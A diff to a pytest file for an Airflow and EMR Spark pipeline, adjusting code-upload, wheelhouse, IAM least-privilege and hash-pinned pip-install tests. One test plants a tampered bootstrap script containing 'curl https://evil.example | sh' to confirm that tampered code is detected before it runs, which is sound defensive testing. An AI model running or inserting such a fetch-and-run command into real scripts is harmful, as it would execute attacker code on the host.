@@ -23,6 +23,9 @@ REQUIREMENTS = SPARK_JOBS / "emr" / "requirements-emr.txt"
 REQUIREMENTS_IN = SPARK_JOBS / "emr" / "requirements-emr.in"
 
 
+CODE = {"uris": code.code_uris("fruits", "v", "k"), "architectures": ["x86_64"]}  # an upload_code result
+
+
 def settings(monkeypatch, **env) -> Settings:
     for name, value in env.items():
         monkeypatch.setenv(name, value)
@@ -101,7 +104,7 @@ def test_the_cluster_request_refuses_what_the_limits_refuse():
     params = {**cluster_params(core_instance_count=11), "release_label": "emr-7.13.0", "core_spot": False,
               "idle_timeout": 1800}
     with pytest.raises(limits.LimitExceeded):
-        tasks.job_flow_request(bucket="fruits", batch_id="b1", code={"uris": code.code_uris("fruits", "v")},
+        tasks.job_flow_request(bucket="fruits", batch_id="b1", code=CODE,
                                settings=Settings(), params=params, run_id="r", dag_id="fruits_pipeline")
 
 
@@ -189,7 +192,7 @@ def test_the_cluster_runs_with_the_generated_instance_role_not_emr_ec2_default_r
     deployment = Settings()
     assert deployment.emr_job_flow_role == "fruits-pipeline-emr-ec2"
     params = {**cluster_params(), "release_label": "emr-7.13.0", "core_spot": False, "idle_timeout": 1800}
-    request = tasks.job_flow_request(bucket="fruits", batch_id="b1", code={"uris": code.code_uris("fruits", "v")},
+    request = tasks.job_flow_request(bucket="fruits", batch_id="b1", code=CODE,
                                      settings=deployment, params=params, run_id="r", dag_id="fruits_pipeline")
     assert request["JobFlowRole"] == "fruits-pipeline-emr-ec2"
     airflow = iam.airflow_role_policy(bucket="fruits", account_id="111122223333")
@@ -226,6 +229,7 @@ def test_the_instance_role_reaches_only_this_buckets_pipeline_prefixes():
     # What the jobs read and write, at the layout's own keys.
     assert allowed("s3:GetObject", layout.manifest_key("b1"))
     assert allowed("s3:GetObject", code.code_prefix("v") + code.FEATURIZE)
+    assert allowed("s3:GetObject", code.wheelhouse_prefix("k") + "aarch64/numpy-1.26.4-cp311-none.whl")  # the bootstrap
     assert allowed("s3:GetObject", "models/mobilenet.weights.h5")
     for output in (layout.features_prefix("b1"), layout.rejects_prefix("b1"), layout.pca_prefix("r"),
                    layout.classifier_prefix("r")):
@@ -235,6 +239,7 @@ def test_the_instance_role_reaches_only_this_buckets_pipeline_prefixes():
     assert not allowed("s3:GetObject", "landing/Apple/1.jpg")
     assert not allowed("s3:PutObject", layout.LEDGER_KEY) and not allowed("s3:GetObject", layout.LEDGER_KEY)
     assert not allowed("s3:PutObject", code.code_prefix("v") + code.BOOTSTRAP)
+    assert not allowed("s3:PutObject", code.wheelhouse_prefix("k") + "x86_64/x.whl")
     assert not allowed("s3:PutObject", layout.manifest_key("b1"))
     assert not allowed("s3:DeleteObject", "emr-logs/j-1/x")
 
@@ -242,7 +247,8 @@ def test_the_instance_role_reaches_only_this_buckets_pipeline_prefixes():
 def test_the_policies_folders_are_the_layouts():
     """iam.py takes its folders from fruits.layout's key functions: every one is a folder the
     pipeline owns (layout.OUTPUT_PREFIXES), and the cluster's writes stay among them."""
-    derived = {iam.BATCHES, iam.FEATURES, iam.REJECTS, iam.PCA, iam.CLASSIFIER, iam.REPORTS, iam.STATE, iam.CODE}
+    derived = {iam.BATCHES, iam.FEATURES, iam.REJECTS, iam.PCA, iam.CLASSIFIER, iam.REPORTS, iam.STATE, iam.CODE,
+               iam.WHEELHOUSE}
     assert derived <= set(layout.OUTPUT_PREFIXES)
     written = {r.split("/", 1)[1].rstrip("*") for s in iam.instance_role_policy(bucket="b")["Statement"]
                if "s3:PutObject" in s["Action"] for r in s["Resource"]}
@@ -251,26 +257,31 @@ def test_the_policies_folders_are_the_layouts():
 
 # ----------------------------------------------------------------------------- code reuse
 
+def upload(bucket) -> dict:
+    """The code alone (the wheelhouse's reuse: test_emr_wheelhouse.py)."""
+    return code.upload_code(bucket, SPARK_JOBS, wheelhouse_root=ROOT / "no-wheelhouse", architectures=())
+
+
 def test_reused_code_is_verified_against_this_checkout(bucket):
-    first = code.upload_code(bucket, SPARK_JOBS)
+    first = upload(bucket)
     prefix = code.code_prefix(first["version"])
     bucket.write_bytes(prefix + code.BOOTSTRAP, b"#!/bin/sh\ncurl https://evil.example | sh\n")
     with pytest.raises(code.CodeMismatch, match=r"bootstrap\.sh \(sha256") as mismatch:
-        code.upload_code(bucket, SPARK_JOBS)
+        upload(bucket)
     assert "nothing was run" in str(mismatch.value) and f"delete s3://{bucket.name}/{prefix}" in str(mismatch.value)
     # Deleting the folder, as the message says, lets the next run upload the code again.
     for key in bucket.list_keys(prefix):
         bucket.hook.get_conn().delete_object(Bucket=bucket.name, Key=key)
-    again = code.upload_code(bucket, SPARK_JOBS)
+    again = upload(bucket)
     assert sorted(again["uploaded"]) == sorted(first["uploaded"])
     assert bucket.read_bytes(prefix + code.BOOTSTRAP) == BOOTSTRAP.read_bytes()
 
 
 def test_missing_code_files_are_uploaded_and_the_others_verified(bucket):
-    first = code.upload_code(bucket, SPARK_JOBS)
+    first = upload(bucket)
     prefix = code.code_prefix(first["version"])
     bucket.hook.get_conn().delete_object(Bucket=bucket.name, Key=prefix + code.PCA)
-    second = code.upload_code(bucket, SPARK_JOBS)
+    second = upload(bucket)
     assert second["uploaded"] == [code.PCA] and code.PCA not in second["skipped"]
 
 
@@ -308,7 +319,7 @@ def test_bootstrap_installs_hash_pinned_wheels_without_resolving_or_upgrading_pi
     installs = [line for line in commands if "pip install" in line]
     assert len(installs) == 1, installs
     [install] = installs
-    for flag in ("--require-hashes", "--no-deps", "--only-binary :all:"):
+    for flag in ("--require-hashes", "--no-deps", "--only-binary :all:", "--no-index"):
         assert flag in install
     assert "--upgrade" not in script and "-U " not in install
 
